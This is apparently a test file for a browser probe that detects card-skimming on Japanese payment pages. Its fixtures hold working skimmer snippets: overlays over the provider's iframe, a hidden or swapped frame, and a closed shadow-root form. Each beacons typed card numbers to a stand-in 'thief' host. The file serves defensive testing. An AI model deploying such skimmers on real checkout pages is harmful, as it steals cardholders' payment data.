import type { Journey } from '@komainu/model';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser, PERSONAS, type ProbeBrowser } from '../src/index.ts';
import { pageOf, run } from './support/run.ts';
import { type Site, startSite } from './support/site.ts';

/** A provider's hosted fields, a shop that frames them, and somewhere card data must never arrive. */
let browser: ProbeBrowser;
let shop: Site;
let provider: Site;
let thief: Site;

const FIELDS = `<!doctype html><body style="margin:0"><form>
<label>カード番号<input id="number" autocomplete="cc-number"></label><br><label>有効期限<input id="expiry" autocomplete="cc-exp"></label><br>
<label>セキュリティコード<input id="code" name="cvc"></label><br><label>カード名義人<input id="holder"></label></form>
<p id="say"></p><script>
onmessage = async () => {
  try {
    const answer = await fetch('/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ number: document.querySelector('#number').value }) });
    document.querySelector('#say').textContent = answer.status + (await answer.text());
    fetch('/seen?' + answer.status);
  } catch (error) { fetch('/seen?' + error.name) }
};</script>`;
const shopPage = (extra: string, style = ''): string => `<!doctype html><meta charset="utf-8"><body>
<h1>お支払い</h1><iframe id="fields" src="${provider.origin}/fields" width="420" height="160" style="border:0;${style}"></iframe>
<button id="confirm" onclick="document.querySelector('#fields').contentWindow.postMessage('go', '*')">確認画面へ</button>${extra}`;
const steal = (): string => `const send = (v) => navigator.sendBeacon('${thief.origin}/loot', v);`;

const journey = (): Journey => ({
  title: 'to the payment page',
  steps: [
    { type: 'setViewport', width: 1200, height: 800 },
    { type: 'navigate', url: '{{origin}}/pay' },
    ...(['number', 'expiry', 'code', 'holder'] as const).map((field) => ({
      type: 'change' as const,
      selectors: [[`#${field}`]],
      frame: [0],
      value: `{{canary.${field}}}`,
    })),
    { type: 'click', selectors: [['aria/確認画面へ'], ['#confirm']] },
  ],
});
const payment = () =>
  pageOf(`${shop.origin}/pay`, {
    paymentCalls: [
      {
        method: 'POST',
        url: `${provider.origin}/v1/tokens`,
        answer: { status: 402, headers: {}, body: '{"error":"declined"}' },
      },
    ],
    neverCall: [`${shop.origin}/order`],
  });

beforeAll(async () => {
  browser = await openBrowser();
  provider = await startSite('127.0.0.42', { '/fields': FIELDS });
  thief = await startSite('127.0.0.43', { '/loot': '' });
  shop = await startSite('127.0.0.41', {});
});
afterAll(async () => {
  await browser.close();
  await Promise.all([shop.close(), provider.close(), thief.close()]);
});

test('the canary is typed into the provider’s frame, the payment call is answered by the probe', async () => {
  shop.pages = { '/pay': shopPage('') };
  const { recording, canary, wire, cardFields } = await run(browser, payment(), journey());
  expect(recording.failure).toBeNull();
  const call = wire.find((message) => message.url.endsWith('/v1/tokens') && message.method === 'POST');
  expect(call?.outcome).toEqual({ kind: 'answered', status: 402 });
  expect(call?.text).toContain(canary.card.number);
  expect(provider.got('/v1/tokens')).toEqual([]);
  expect(provider.got('/seen').map((item) => item.url)).toEqual(['/seen?402']);
  const typed = cardFields.filter((field) => field.typedAt !== null);
  expect(typed.map((field) => [field.field, field.origin])).toEqual(
    ['number', 'expiry', 'code', 'holder'].map((field) => [field, provider.origin]),
  );
});

test('the payment call from another origin is answered too, its preflight included', async () => {
  shop.pages = {
    '/pay': `<label>カード番号 <input id="number" autocomplete="cc-number"></label><script>
document.querySelector('#number').addEventListener('blur', async (event) => {
  const r = await fetch('${provider.origin}/v1/tokens', { method: 'POST', headers: { 'content-type': 'application/json', 'x-key': 'pk' }, body: JSON.stringify({ n: event.target.value }) });
  fetch('/told?' + r.status + (await r.json()).error);
})</script>`,
  };
  const before = provider.received.length;
  await run(browser, payment());
  expect(provider.received.length).toBe(before);
  expect(shop.got('/told').map((item) => item.url)).toEqual(['/told?402declined']);
});

test('an overlay laid over the provider’s frame receives the canary, and it leaves for the thief', async () => {
  const overlay = `<form id="fake" style="position:absolute;z-index:9;background:#fff;width:420px;height:160px">
<input id="a" placeholder="カード番号" style="display:block;width:200px;height:21px"><input placeholder="MM/YY" style="display:block;width:200px;height:21px">
<input placeholder="CVC" style="display:block;width:200px;height:21px"><input placeholder="名義" style="display:block;width:200px;height:21px"></form><script>${steal()}
const f = document.querySelector('#fields').getBoundingClientRect(), o = document.querySelector('#fake');
o.style.left = f.left + 'px'; o.style.top = f.top + 'px';
o.addEventListener('change', (e) => send(btoa(e.target.value)));</script>`;
  shop.pages = { '/pay': shopPage(overlay) };
  const { canary, wire, cardFields } = await run(browser, payment(), journey());
  const typed = cardFields.filter((field) => field.typedAt !== null);
  expect(new Set(typed.map((field) => field.origin))).toEqual(new Set([shop.origin]));
  expect(typed.some((field) => field.field === 'number')).toBe(true);
  const loot = Buffer.from(canary.card.number).toString('base64');
  expect(
    wire.filter((message) => message.url === `${thief.origin}/loot`).map((message) => message.text),
  ).toContain(loot);
  // Covered fields are not where a person could type.
  expect(cardFields.some((field) => field.origin === provider.origin)).toBe(false);
});

test('the real frame is hidden and a fake form shown in its place', async () => {
  const fake = `<div><p>クレジットカード情報</p><table><tr><td>カード番号</td><td><input id="n"></td></tr><tr><td>有効期限</td><td>
<select name="m"><option>01<option>02<option>03<option>04<option>05<option>06<option>07<option>08<option>09<option>10<option>11<option>12</select>月
</td></tr></table></div><script>${steal()} document.querySelector('#n').oninput = (e) => e.target.value.length > 14 && send(e.target.value)</script>`;
  shop.pages = { '/pay': shopPage(fake, 'display:none') };
  const { canary, wire, cardFields, frames } = await run(browser, payment(), journey());
  expect(cardFields.find((field) => field.field === 'number')).toMatchObject({
    origin: shop.origin,
    selector: '#n',
  });
  expect(cardFields.find((field) => field.field === 'number')?.typedAt).not.toBeNull();
  expect(
    wire.some((message) => message.url === `${thief.origin}/loot` && message.text === canary.card.number),
  ).toBe(true);
  expect(frames.find((frame) => frame.origin === provider.origin)?.visible).toBe(false);
});

test('the real frame is removed, the fake one is a frame of another origin', async () => {
  thief.pages['/fake'] = FIELDS.replace(
    '<script>',
    `<script>${steal()} document.querySelector('#number').onblur = (e) => send(e.target.value);`,
  );
  shop.pages = {
    '/pay': shopPage(
      `<script>const f = document.createElement('iframe'); f.src = '${thief.origin}/fake'; f.width = 420; f.height = 160; document.querySelector('#fields').replaceWith(f)</script>`,
    ),
  };
  const { canary, wire, cardFields } = await run(browser, payment(), journey());
  expect(cardFields.filter((field) => field.typedAt).map((field) => field.origin)).toContain(thief.origin);
  expect(wire.some((message) => message.text === canary.card.number)).toBe(true);
});

test('a fake form inside a closed shadow root is found, and gets the canary', async () => {
  shop.pages = {
    '/pay': `<div id="host"></div><script>${steal()}
const root = document.querySelector('#host').attachShadow({ mode: 'closed' });
root.innerHTML = '<label>カード番号 <input></label>';
root.querySelector('input').onblur = (e) => send(e.target.value);</script>`,
  };
  const { canary, wire, cardFields } = await run(browser, payment());
  expect(cardFields.map((field) => [field.field, field.typedAt !== null])).toEqual([['number', true]]);
  expect(wire.some((message) => message.text === canary.card.number)).toBe(true);
});

test('an invisible overlay that takes the clicks is no card field, and the real one is not reachable', async () => {
  shop.pages = { '/pay': shopPage('<div style="position:fixed;inset:0;z-index:5"></div>') };
  const { cardFields, recording } = await run(browser, payment());
  expect(cardFields).toEqual([]);
  expect(recording.artifacts.cardFields.kind).toBe('observed');
});

test('the number in four boxes, month and year in menus', async () => {
  shop.pages = {
    '/pay': `<form><p>カード番号</p>${[1, 2, 3, 4].map((n) => `<input name="cardno${n}" aria-label="カード番号${n}" maxlength="4">`).join('-')}
<label>有効期限（月）<select name="exp_month">${Array.from({ length: 12 }, (_, n) => `<option value="${n + 1}">${n + 1}月`).join('')}</select></label>
<label>有効期限（年）<select name="exp_year">${Array.from({ length: 12 }, (_, n) => `<option>${2026 + n}`).join('')}</select></label>
<script>onpagehide = () => navigator.sendBeacon('/all', [...document.querySelectorAll('input,select')].map((e) => e.value).join(''))</script>`,
  };
  const { canary } = await run(browser, payment());
  const [month, year] = canary.card.expiry.split('/');
  expect(shop.got('/all')[0]?.body).toBe(`${canary.card.number}${Number(month)}20${year}`);
});

test('an address that would place the order is refused, however it is called', async () => {
  shop.pages = {
    '/pay': `<form method="post" action="/order//"><button id="confirm">確認画面へ</button></form>
<script>fetch('/order?x=1', { method: 'POST', body: 'x' }).catch(() => fetch('/told'))</script>`,
  };
  const steps = journey().steps.filter((step) => step.type !== 'change');
  const { wire, recording } = await run(browser, payment(), { title: 'x', steps });
  expect(shop.got('/order')).toEqual([]);
  expect(shop.got('/order//')).toEqual([]);
  expect(
    new Set(wire.filter((message) => message.url.includes('/order')).map((message) => message.outcome.kind)),
  ).toEqual(new Set(['refused']));
  expect(recording.failure).toBeNull();
});

test('purpose proof: the page without a card choice ends the walk, and says what could be reached', async () => {
  shop.pages = { '/pay': '<h1>お支払い</h1><label><input type="radio" name="m" checked>銀行振込</label>' };
  const started = Date.now();
  const { recording, cardFields, headers } = await run(browser, payment(), journey(), { purpose: 'proof' });
  expect(recording.failure).toMatchObject({ code: 'step-not-found', step: 2 });
  expect(cardFields).toEqual([]);
  expect(headers.find((document) => document.main)).toMatchObject({ url: `${shop.origin}/pay`, status: 200 });
  expect(recording.artifacts.cardFields).toMatchObject({ kind: 'observed', gaps: [] });
  console.info(`proof visit: ${Date.now() - started} ms`);
});

test('a mobile visitor types with taps', async () => {
  shop.pages = { '/pay': `<meta name="viewport" content="width=device-width">${shopPage('')}` };
  const persona = PERSONAS.find((item) => item.device === 'mobile');
  if (!persona) throw new Error('no mobile persona');
  const { recording, canary, wire } = await run(browser, payment(), journey(), { persona });
  expect(recording.failure).toBeNull();
  expect(
    wire.some((message) => message.outcome.kind === 'answered' && message.text.includes(canary.card.number)),
  ).toBe(true);
  expect(shop.got('/pay').at(-1)?.headers['user-agent']).toContain('Mobile');
});
